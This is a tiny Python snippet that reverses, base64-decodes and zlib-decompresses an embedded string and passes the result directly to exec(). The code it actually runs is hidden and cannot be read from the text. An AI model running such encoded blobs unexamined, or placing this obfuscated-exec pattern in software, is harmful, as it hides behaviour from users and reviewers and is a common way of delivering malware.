
_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
exec((_)(b"==AJU4EPAQw1V9ESpEQLKpSLLVXSKzkzss8KMDfVIlMKS9yyINFzNH9SMnkLoAlzJxyTus8zQF9KMrMKrwJe"))
